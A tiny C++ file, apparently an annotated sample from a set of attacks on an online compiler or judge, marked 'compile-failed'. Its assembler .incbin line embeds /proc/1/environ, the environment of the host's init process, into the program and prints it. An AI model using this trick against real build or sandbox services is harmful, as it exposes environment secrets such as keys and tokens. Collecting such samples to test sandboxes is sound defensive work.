// attack: takes the environment of pid 1 into the program
// status: compile-failed
#include <cstdio>
__asm__(".globl s\ns: .incbin \"/proc/1/environ\"\n.byte 0");
extern char s[];
int main() { puts(s); }
